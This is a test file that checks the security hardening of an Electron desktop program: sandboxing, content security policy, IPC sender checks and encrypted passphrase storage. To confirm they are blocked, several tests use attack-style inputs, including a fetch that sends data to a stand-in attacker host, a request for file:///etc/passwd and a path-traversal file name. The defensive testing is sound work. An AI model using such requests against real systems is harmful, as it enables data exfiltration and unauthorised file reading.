import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { restarted } from '../../electron/engine-process.ts';
import { findChromium } from '../chromium.ts';
import { app } from '../mocks/electron/app.ts';
import { standIn } from '../mocks/electron/control.ts';
import { invoke, registeredChannels, type SenderFrame } from '../mocks/electron/ipc.ts';
import { Menu } from '../mocks/electron/menu.ts';
import { privileges, session } from '../mocks/electron/session.ts';
import { children } from '../mocks/electron/utility-process.ts';
import { BrowserWindow } from '../mocks/electron/window.ts';
import type { PageGlobals } from './page.ts';
import { openDesktop, type DesktopUnderTest } from './running-desktop.ts';

// The desktop program as a whole: main process, preload script, protocol, page and engine's process,
// over a stand-in for `electron` that drives Debian's Chromium. What the stand-in cannot show stands
// at the head of tests/mocks/electron.ts; these tests say nothing about the sandbox, the fuses, native
// dialogs and menus, the operating system's key store, or Windows and macOS.

const hasChromium = findChromium() !== null;
if (!hasChromium) console.warn('did not run: the desktop tests need Chromium');

const frame = (url: string, parent: SenderFrame | null = null): SenderFrame => ({
  url,
  parent,
  postMessage: () => {},
});

/** What the key store wrote; null where it wrote nothing. */
function stored(folder: string): string | null {
  const file = join(folder, 'user', 'kept-passphrases.json');
  return existsSync(file) ? readFileSync(file, 'utf8') : null;
}

describe.runIf(hasChromium)('the desktop program', () => {
  let desktop: DesktopUnderTest;
  beforeAll(async () => {
    desktop = await openDesktop();
    await desktop.page.waitForFunction(() => (globalThis as unknown as PageGlobals).portsReceived === 1);
  });
  afterAll(() => desktop.stop());

  const inPage = <Result>(what: (globals: PageGlobals) => Result | Promise<Result>): Promise<Result> =>
    desktop.page.evaluate(`(${what.toString()})(globalThis)`);

  describe('the window', () => {
    it('is sandboxed, isolated and without Node', () => {
      const preferences = BrowserWindow.all[0]?.options.webPreferences;
      expect(preferences).toMatchObject({
        sandbox: true,
        contextIsolation: true,
        nodeIntegration: false,
        nodeIntegrationInWorker: false,
        nodeIntegrationInSubFrames: false,
        webSecurity: true,
        webviewTag: false,
        spellcheck: false,
      });
      expect(BrowserWindow.all[0]?.shown).toBe(true);
    });

    it('shows the page of a scheme with an origin of its own', () => {
      expect(privileges.get('app')).toEqual({ standard: true, secure: true, supportFetchAPI: true });
      expect(standIn.requests[0]).toEqual({ url: 'app://throughline/', outcome: 'answered' });
    });

    it('gets one object from the preload script, frozen, with the agreed functions', async () => {
      const found = await inPage((globals) => ({
        names: Object.keys(globals.throughline).sort(),
        frozen: Object.isFrozen(globals.throughline),
        node: 'require' in globals || 'process' in globals || 'ipcRenderer' in globals,
      }));
      expect(found).toEqual({
        names: [
          'canRememberPassphrase',
          'chooseCaseFile',
          'forgetPassphrase',
          'host',
          'onEngineRestarted',
          'onMenu',
          'recallPassphrase',
          'rememberPassphrase',
          'requestPort',
          'saveFile',
        ],
        frozen: true,
        node: false,
      });
    });
  });

  describe('the content security policy', () => {
    it('lets the style with this load’s nonce through, and no other inline style or script', async () => {
      const colors = await desktop.page.$$eval('p', (all) => all.map((each) => getComputedStyle(each).color));
      expect(colors).toEqual(['rgb(1, 2, 3)', 'rgb(0, 0, 0)']);
      expect(await inPage((globals) => 'inlineRan' in globals)).toBe(false);
    });

    it('lets nothing be fetched from elsewhere, evaluated or framed', async () => {
      const fetched = desktop.page.evaluate(() => fetch('https://attacker.example/?words-of-a-record'));
      await expect(fetched).rejects.toThrow('Failed to fetch');
      expect(await inPage((globals) => globals.evaluated)).toBe(false);
      await desktop.page.evaluate(() => {
        const frame = document.createElement('iframe');
        frame.src = 'https://attacker.example/';
        document.body.append(frame);
      });
      expect(standIn.requests.filter(({ url }) => url.includes('attacker'))).toEqual([]);
    });
  });

  describe('the contract over the port', () => {
    it('answers plain values and refusals', async () => {
      expect(await inPage((globals) => globals.client.echo({ text: 'Ashdown – <b>' }))).toEqual({
        text: 'Ashdown – <b>',
      });
      const refusal = await inPage((globals) =>
        globals.client.refuse().catch((error: { data: unknown }) => error.data),
      );
      expect(refusal).toEqual({ code: 'c', message: 'It cannot be done.', remedy: 'Do another.' });
    });

    it('carries files in and out, every byte of them', async () => {
      const staged = await inPage((globals) => {
        const bytes = Uint8Array.from({ length: 70_000 }, (_, index) => index % 256);
        return globals.client.stage({ file: new File([bytes], 'GP – März.csv') });
      });
      const sum = Array.from({ length: 70_000 }, (_, index) => index % 256).reduce(
        (total, byte) => total + byte,
        0,
      );
      expect(staged).toEqual({ name: 'GP – März.csv', bytes: 70_000, sum });
      const built = await inPage(async (globals) => {
        const { file, leftOut } = await globals.client.build({ bytes: 5_000 });
        const bytes = new Uint8Array(await file.arrayBuffer());
        return {
          name: file.name,
          type: file.type,
          leftOut,
          right: bytes.length === 5_000 && bytes.every((byte) => byte === 255),
        };
      });
      expect(built).toEqual({
        name: 'Report für “A”.pdf',
        type: 'application/pdf',
        leftOut: ['one undated entry'],
        right: true,
      });
    });

    it('streams progress, and stops the work when the page ends the stream', async () => {
      const counted = await inPage(async (globals) => {
        const seen: number[] = [];
        for await (const event of await globals.client.count({ to: 3 })) seen.push(event.done);
        return seen;
      });
      expect(counted).toEqual([1, 2, 3]);
      await inPage(async (globals) => {
        const abort = new AbortController();
        const stream = await globals.client.endless(undefined, { signal: abort.signal });
        await stream.next();
        abort.abort();
      });
      await vi.waitFor(async () =>
        expect(await inPage((globals) => globals.client.seen())).toMatchObject({ aborted: true }),
      );
    });
  });

  describe('dialogs', () => {
    it('choose a case file to open or to make, and can be cancelled', async () => {
      standIn.dialogAnswers.push('/cases/a.throughline', '/cases/b.throughline', null);
      expect(await inPage((globals) => globals.throughline.chooseCaseFile('open'))).toBe(
        '/cases/a.throughline',
      );
      expect(await inPage((globals) => globals.throughline.chooseCaseFile('new'))).toBe(
        '/cases/b.throughline',
      );
      expect(await inPage((globals) => globals.throughline.chooseCaseFile('open'))).toBeNull();
      expect(standIn.shownDialogs.slice(-3).map(({ kind }) => kind)).toEqual(['open', 'save', 'open']);
    });

    it('save bytes where the user says, whatever folder the page named', async () => {
      const target = join(desktop.folder, 'report.csv');
      standIn.dialogAnswers.push(target);
      const saved = await inPage((globals) =>
        globals.throughline.saveFile('../../etc/report.csv', new Uint8Array([72, 105]).buffer),
      );
      expect(saved).toEqual({ kind: 'saved', path: target });
      expect(readFileSync(target, 'utf8')).toBe('Hi');
      expect(standIn.shownDialogs.at(-1)?.options['defaultPath']).toBe(
        join(desktop.folder, 'documents', 'report.csv'),
      );
    });

    it('say what to do when the file cannot be written', async () => {
      standIn.dialogAnswers.push(join(desktop.folder, 'no-such-folder', 'report.csv'));
      const saved = await inPage((globals) => globals.throughline.saveFile('report.csv', new ArrayBuffer(1)));
      expect(saved).toMatchObject({ kind: 'failed', message: 'report.csv could not be written (ENOENT).' });
    });
  });

  describe('the menu', () => {
    it('hands what concerns the case to the page', async () => {
      for (const id of ['new-case', 'open-case', 'open-sample', 'lock']) Menu.applicationMenu?.click(id);
      await vi.waitFor(async () =>
        expect(await inPage((globals) => globals.told)).toEqual([
          'new-case',
          'open-case',
          'open-sample',
          'lock',
        ]),
      );
    });

    it('says that judgement decides, and under which licence it comes', () => {
      Menu.applicationMenu?.click('judgement');
      expect(standIn.shownDialogs.at(-1)?.options['detail']).toContain('replaces professional judgement');
      Menu.applicationMenu?.click('licence');
      expect(standIn.shownDialogs.at(-1)?.options['detail']).toContain('Apache License');
    });
  });

  describe('a page that tries to get out', () => {
    it('cannot navigate away', async () => {
      const before = desktop.page.url();
      for (const address of ['https://attacker.example/', 'http://127.0.0.1:1/', 'app://other/']) {
        await desktop.page.evaluate((to) => location.assign(to), address).catch(() => undefined);
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
      expect(desktop.page.url()).toBe(before);
      expect(
        standIn.requests.filter(
          ({ url, outcome }) => !url.startsWith('app://throughline/') && outcome === 'answered',
        ),
      ).toEqual([]);
    });

    it('cannot open a window', async () => {
      await desktop.page.evaluate(() => open('https://attacker.example/'));
      await desktop.page.evaluate(() => open('/'));
      await vi.waitFor(() => expect(desktop.page.context().pages()).toHaveLength(1));
    });

    it('has no request let out, even one that the policy of the page would not stop', async () => {
      const ours = session.fromPartition('throughline');
      const outcomes = [
        'https://attacker.example/',
        'http://127.0.0.1:8080/',
        'file:///etc/passwd',
        'ws://a.example/',
        'app://other/',
        'https://attacker.example/app://throughline/',
      ];
      for (const url of outcomes) expect(await ours.ask(new Request(url)), url).toBe('cancelled');
      expect(await ours.ask(new Request('app://throughline/'))).toBeInstanceOf(Response);
      expect(await ours.ask(new Request('blob:app://throughline/1'))).toBe('let out');
      expect(await ours.ask(new Request('blob:https://attacker.example/1'))).toBe('cancelled');
    });

    it('can save what it made itself, and download nothing', () => {
      const ours = session.fromPartition('throughline');
      const prevented = (url: string) => {
        let stopped = false;
        ours.emit('will-download', { preventDefault: () => (stopped = true) }, { getURL: () => url });
        return stopped;
      };
      expect(prevented('blob:app://throughline/1')).toBe(false);
      for (const url of [
        'https://attacker.example/a.exe',
        'app://throughline/a.exe',
        'blob:https://attacker.example/1',
        'data:text/plain,a',
      ]) {
        expect(prevented(url), url).toBe(true);
      }
    });

    it('gets no permission of the web', async () => {
      const code = await desktop.page.evaluate(
        () =>
          new Promise<number>((resolve) => {
            navigator.geolocation.getCurrentPosition(
              () => resolve(0),
              (error) => resolve(error.code),
            );
          }),
      );
      expect(code).toBe(1);
      const ours = session.fromPartition('throughline');
      expect(await ours.grants('notifications')).toBe(false);
      expect(ours).toMatchObject({ devices: false, spellChecker: false });
      expect(app.switches.get('host-resolver-rules')).toBe('MAP * ~NOTFOUND');
    });
  });

  describe('a message of a foreign sender', () => {
    it('is refused by every handler there is', async () => {
      const own = frame('app://throughline/');
      const foreign = [
        null,
        frame('https://attacker.example/'),
        frame('app://throughline.attacker.example/'),
        frame('app://other/'),
        frame('https://attacker.example/app://throughline/'),
        frame('app://user@throughline/'),
        frame('about:blank'),
        frame('app://throughline/', own),
      ];
      expect(registeredChannels()).toHaveLength(7);
      for (const channel of registeredChannels()) {
        for (const senderFrame of foreign) {
          await expect(invoke({ sender: null, senderFrame }, channel, []), channel).rejects.toThrow(
            'not from the page',
          );
        }
      }
    });

    it('is refused from the own page too, when it has another shape', async () => {
      const own = { sender: null, senderFrame: frame('app://throughline/') };
      const cases: readonly (readonly [string, readonly unknown[]])[] = [
        ['throughline:choose-case-file', ['delete']],
        ['throughline:choose-case-file', []],
        ['throughline:save-file', ['a', 'text']],
        ['throughline:save-file', ['', new ArrayBuffer(1)]],
        ['throughline:remember-passphrase', ['/a', 7]],
        ['throughline:recall-passphrase', [{}]],
        ['throughline:request-port', ['extra']],
      ];
      for (const [channel, given] of cases) {
        await expect(invoke(own, channel, given), channel).rejects.toThrow('agreed shape');
      }
    });
  });

  describe('a kept passphrase', () => {
    it('is refused, not written, where the system cannot encrypt', async () => {
      for (const keyStore of [
        { backend: 'basic_text', encrypts: true },
        { backend: 'unknown', encrypts: true },
        { backend: 'gnome_libsecret', encrypts: false },
      ]) {
        standIn.keyStore = keyStore;
        expect(await inPage((globals) => globals.throughline.canRememberPassphrase())).toBe(false);
        const result = await inPage((globals) =>
          globals.throughline.rememberPassphrase('/cases/Ashdown.throughline', 'plain words'),
        );
        expect(result).toMatchObject({ kind: 'refused' });
      }
      expect(stored(desktop.folder)).toBeNull();
    });

    it('is kept encrypted, without the name of the file, recalled and forgotten', async () => {
      standIn.keyStore = { backend: 'gnome_libsecret', encrypts: true };
      expect(
        await inPage((globals) =>
          globals.throughline.rememberPassphrase('/cases/Ashdown.throughline', 'plain words'),
        ),
      ).toEqual({ kind: 'kept' });
      expect(stored(desktop.folder)).not.toContain('plain words');
      expect(stored(desktop.folder)).not.toContain(Buffer.from('plain words').toString('base64'));
      expect(stored(desktop.folder)).not.toContain('Ashdown');
      expect(
        await inPage((globals) => globals.throughline.recallPassphrase('/cases/Ashdown.throughline')),
      ).toBe('plain words');
      await inPage((globals) => globals.throughline.forgetPassphrase('/cases/Ashdown.throughline'));
      expect(
        await inPage((globals) => globals.throughline.recallPassphrase('/cases/Ashdown.throughline')),
      ).toBeNull();
      expect(stored(desktop.folder)).toBe('{}');
    });
  });

  describe('the engine’s process', () => {
    it('is started again when it ends, with a sentence and a new port for the page', async () => {
      void inPage((globals) => globals.client.die()).catch(() => undefined);
      await vi.waitFor(async () => expect(await inPage((globals) => globals.told.at(-1))).toBe(restarted));
      expect(children).toHaveLength(2);
      expect(await inPage((globals) => globals.portsReceived)).toBe(2);
      expect(await inPage((globals) => globals.client.echo({ text: 'again' }))).toEqual({ text: 'again' });
    });
  });

  describe('the end', () => {
    it('waits until the engine has closed its file', async () => {
      let ended = false;
      children.at(-1)?.once('exit', () => (ended = true));
      await BrowserWindow.all[0]?.close();
      await vi.waitFor(() => expect(standIn.quits).toBe(1));
      expect(ended).toBe(true);
    });
  });
});

describe('the sources of the desktop shell', () => {
  it('register handlers through the sender check alone', () => {
    const folder = new URL('../../electron/', import.meta.url);
    const raw = readdirSync(folder).filter((name) =>
      readFileSync(new URL(name, folder), 'utf8').includes('ipcMain'),
    );
    expect(raw).toEqual(['sender-check.ts']);
  });
});
